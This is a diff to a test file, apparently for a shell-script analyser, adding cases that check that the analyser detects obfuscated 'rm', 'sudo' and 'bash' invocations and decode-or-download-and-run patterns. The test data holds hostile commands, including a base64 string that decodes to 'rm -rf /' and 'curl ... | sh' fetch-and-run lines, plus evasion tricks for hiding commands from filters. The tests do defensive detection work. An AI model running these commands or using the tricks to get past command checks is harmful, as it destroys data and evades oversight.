@@ -114,6 +114,11 @@ describe('shapes', () => {
     ['cat f | base64 -d | bash', 'decode-and-run'],
     ['eval "$(echo cm0gLXJmIC8= | base64 -d)"', 'decode-and-run'],
     ["dc -e '114P 109P' | sh", 'decode-and-run'],
+    ["date +'rm x' | sh", 'decode-and-run'],
+    ["printf 'a\\nrm x\\n' | grep -v a | sh", 'decode-and-run'],
+    ['$(awk \'BEGIN{print "rm"}\') x', 'decode-and-run'],
+    ["x='rm y'; declare -p x | sed 's/.*=//' | sh", 'decode-and-run'],
+    ['coproc bash; echo rm x >&${COPROC[1]}', 'decode-and-run'],
     ['curl http://h/x | sh', 'download-and-run'],
     ['bash <(wget -qO- http://h/x)', 'download-and-run'],
     ['eval "$(curl -s http://h/x)"', 'download-and-run'],
@@ -198,6 +203,12 @@ describe('names that hide a program', () => {
     ['GIT_SSH_COMMAND="rm x" git fetch', 'rm'],
     ['PROMPT_COMMAND="rm x" bash -i', 'rm'],
     ['command_not_found_handle() { rm x; }; nonsense', 'rm'],
+    ['f() { rm x; }; bash -c "$(declare -f f); f"', 'rm'],
+    ["set -o history; history -s 'rm x'; fc -s", 'rm'],
+    ['$(realpath /usr/bin/sudo) id', 'sudo'],
+    ['$(find /usr/bin -maxdepth 1 -name sudo) id', 'sudo'],
+    ['/usr/bin/@(sudo|x) id', 'sudo'],
+    ['/proc/$$/exe -c "rm x"', 'bash'],
   ])('%s: %s is seen', (script, program) => {
     expect(factsOf(script).invocations.map((invocation) => invocation.program)).toContain(program)
   })
